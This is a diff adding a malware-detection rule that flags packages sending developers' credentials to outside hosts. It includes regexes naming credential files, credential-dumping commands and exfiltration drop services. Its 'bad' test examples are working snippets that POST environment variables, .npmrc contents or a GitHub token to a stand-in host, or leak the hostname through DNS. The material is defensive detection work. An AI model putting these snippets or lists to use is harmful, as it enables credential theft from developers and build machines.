@@ -1,0 +1,113 @@
+import { callsNamed, callsOf, pattern, receiverOf, resolve, placeAt, show, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
+import type { Hit } from '../../rule.ts';
+import { defineRule } from '../../rule.ts';
+import { checkScripts } from '../code/checkScripts.ts';
+import { requestsOf } from '../code/network.ts';
+import { originPaths, originsOf } from '../code/origins.ts';
+
+/** Keys of whoever runs the program, and places where browsers, chat programs and wallets keep theirs. */
+const KEPT =
+  /\.npmrc\b|\.pypirc\b|\.git-credentials|\.netrc\b|\.ssh(?:\/|\*|$)|id_(?:rsa|ed25519|ecdsa)\b|\.aws(?:\/|\*)*credentials|\.docker(?:\/|\*)*config\.json|\.kube(?:\/|\*)*config|application_default_credentials|Login Data|Local Storage\/leveldb|logins\.json|key4\.db|wallet\.dat|nkbihfbeogaeaoehlefnkodbefgpgknn|Exodus\/exodus\.wallet|\.bash_history|\/etc\/(?:passwd|shadow)/i;
+const READS = ['readFileSync', 'readFile', 'readdirSync', 'readdir', 'createReadStream', 'copyFileSync'].flatMap((name) => [`fs.${name}`, `fs.promises.${name}`, `fs-extra.${name}`]);
+const RUNS = ['execSync', 'exec', 'spawnSync', 'spawn', 'execFileSync', 'execFile'].map((name) => `child_process.${name}`);
+/** Commands that search for or print credentials. */
+const SEARCHES = /\btrufflehog\b|\bgh\s+auth\s+token\b|\bgitleaks\s+(?:detect|dir|git)\b|\bnpm\s+(?:token|config\s+get\s+\S*_auth)|security\s+find-(?:generic|internet)-password|gcloud\s+auth\s+print-access-token|aws\s+(?:configure\s+get|sts\s+get-session-token)|\bprintenv\b|(?:^|\s)env(?:\s|$)|cat\s+\S*(?:\.npmrc|\.ssh|\.aws|\.env\b)/;
+const WHO = ['os.hostname()', 'os.userInfo()', 'os.homedir()', 'os.networkInterfaces()', 'dns.getServers()', 'process.cwd()'];
+/** Where data is left that nobody asks for. */
+const DROPS = /discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|webhook\.site|pipedream\.net|\.ngrok\b|\.oast\.|burpcollaborator|interact\.sh|requestbin|hookbin/;
+const METADATA = /169\.254\.169\.254|metadata\.google\.internal/;
+
+const ownMachine = (to: string): boolean => /^(?:https?:\/\/)?(?:localhost|127\.0\.0\.1|\[::1\])/.test(to);
+
+/** The text of a call's arguments as far as it is known, joined paths included. */
+const textOf = (script: ScriptFacts, call: Call): string => `${call.args.map((arg) => pattern(script, arg)).join(' ')} ${show(script, call.value)}`.replace(/\\+/g, '/').replace(/['"],\s*['"]/g, '/');
+
+/** What the script reads or runs to get at keys: the calls, with words for the person. */
+function takings(script: ScriptFacts): Map<number, string> {
+  const found = new Map<number, string>();
+  for (const call of callsOf(script, ...READS)) if (KEPT.test(textOf(script, call))) found.set(call.value, 'files that hold keys of whoever runs it');
+  for (const call of callsOf(script, ...RUNS)) if (SEARCHES.test(textOf(script, call))) found.set(call.value, 'what a search for credentials finds');
+  for (const request of requestsOf(script)) if (METADATA.test(request.to)) found.set(request.value, 'the credentials of the machine in the cloud');
+  return found;
+}
+
+export const packageStealsData = defineRule({
+  id: 'package-steals-data',
+  title: 'A package sends away keys of whoever runs it',
+  severity: 'critical',
+  confidence: 'high',
+  category: 'code',
+  applies: 'repository',
+  cwe: 'CWE-506',
+  references: ['https://attack.mitre.org/techniques/T1552/', 'https://github.com/ossf/malicious-packages'],
+  why: 'Packages that were taken over read the environment, tokens and key files of developers and build machines and send them to the attacker, who then publishes more packages with them.',
+  remedy: 'Do not install or run it. If it ran, change every key that the machine could read.',
+  check: checkScripts(function* ({ script, file, hit }) {
+    const taken = takings(script);
+    const streamed = writtenTo(script);
+    for (const request of requestsOf(script)) {
+      if (ownMachine(request.to) || METADATA.test(request.to)) continue;
+      const sent = [...request.sent.filter((value) => value !== request.address), ...(streamed.get(request.value) ?? [])];
+      const from = new Set(sent.flatMap((value) => [...originsOf(script, value)]));
+      const source = [...taken].find(([value]) => from.has(value));
+      const paths = new Set(sent.flatMap((value) => [...originPaths(script, value)]));
+      if (source !== undefined) yield hit(request.value, { message: `It sends away ${source[1]}.` });
+      else if (sendsEnvironment(script, sent)) yield hit(request.value, { message: 'It sends all variables of the environment away, keys included.' });
+      else if (WHO.filter((path) => paths.has(path)).length >= 2) yield hit(request.value, { severity: 'high', confidence: 'medium', message: 'It reports who runs it on which machine.' });
+      else if (taken.size > 0 && DROPS.test(request.to)) yield hit(request.value, { confidence: 'medium', message: 'It reads what holds keys, and leaves data where nobody asks for it.' });
+    }
+    yield* lookups(script, file.path);
+  }),
+  examples: {
+    bad: [
+      { files: { 'index.js': "const env = process.env;\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify({ env, a: 1 }) });\n" } },
+      { files: { 'index.js': "fetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(process.env) });\n" } },
+      { files: { 'index.js': "const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n" } },
+      { files: { 'index.js': "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n" } },
+      { files: { 'index.js': "require('dns').lookup(require('os').hostname() + '.x.collect.dev', () => {});\n" } },
+    ],
+    good: [
+      { files: { 'index.mjs': "const env = process.env;\nconst { TOKEN } = process.env;\nfetch('https://api.dev/v1', { method: 'POST', headers: { authorization: 'Bearer ' + TOKEN }, body: JSON.stringify({ ref: env.GITHUB_REF }) });\n" } },
+      { files: { 'index.js': "fetch(process.env.API_URL + '/v1', { method: 'POST', body: JSON.stringify({ a: 1, mode: process.env.NODE_ENV }) });\n" } },
+      { files: { 'index.js': "const fs = require('fs');\nconst t = fs.readFileSync('.npmrc', 'utf8').split('\\n');\nconsole.log(t.length);\nfetch('https://registry.dev/ping');\n" } },
+      { files: { 'index.js': "const os = require('os');\nfetch('https://status.dev/up', { method: 'POST', body: JSON.stringify({ host: os.hostname() }) });\n" } },
+    ],
+  },
+});
+
+/** What is written into requests after they were made: `https.request(…).end(data)`. */
+function writtenTo(script: ScriptFacts): ReadonlyMap<number, readonly number[]> {
+  const written = new Map<number, number[]>();
+  const requests = new Set(callsOf(script, 'https.request', 'http.request').map(({ value }) => value));
+  if (requests.size === 0) return written;
+  for (const call of callsNamed(script, 'write', 'end').slice(0, 300)) {
+    for (const made of originsOf(script, receiverOf(script, call))) if (requests.has(made)) written.set(made, [...(written.get(made) ?? []), call.args[0] ?? 0]);
+  }
+  return written;
+}
+
+/** Whether a request carries the whole environment: `process.env` itself, not one variable of it. */
+function sendsEnvironment(script: ScriptFacts, sent: readonly number[]): boolean {
+  const whole = /\.\.\.process\.env\b(?!\s*[.[])|[:({,[]\s*process\.env\s*[,})\]]/;
+  const names = new Set<string>();
+  const texts: string[] = [];
+  for (const value of sent.flatMap((one) => [one, ...originsOf(script, one)]).slice(0, 400)) {
+    const text = show(script, value);
+    if (whole.test(text)) return true;
+    texts.push(text);
+    // A variable that is the environment, unless only a part of it is read.
+    if (/^[\w$]{1,60}$/.test(text) && show(script, resolve(script, value)) === 'process.env') names.add(text);
+  }
+  return [...names].some((name) => !texts.some((text) => text.startsWith(`${name}.`) || text.startsWith(`${name}[`)));
+}
+
+/** Data put into a name that is looked up. */
+function* lookups(script: ScriptFacts, path: string): Generator<Hit> {
+  for (const call of callsOf(script, 'dns.lookup', 'dns.resolve', 'dns.resolve4', 'dns.resolveTxt', 'dns.promises.lookup', 'dns.promises.resolve')) {
+    const from = originPaths(script, call.args[0] ?? 0);
+    if (!/\*.*\.[\w-]+\.\w+$/.test(pattern(script, call.args[0] ?? 0))) continue;
+    if ([...from].some((one) => /^(?:os\.(?:hostname|userInfo)\(\)|process\.env)/.test(one) || WHO.includes(one))) {
+      yield { place: placeAt(script, path, call.pos), evidence: show(script, call.value), severity: 'high', confidence: 'medium', message: 'It hides data in a name that it looks up.' };
+    }
+  }
+}
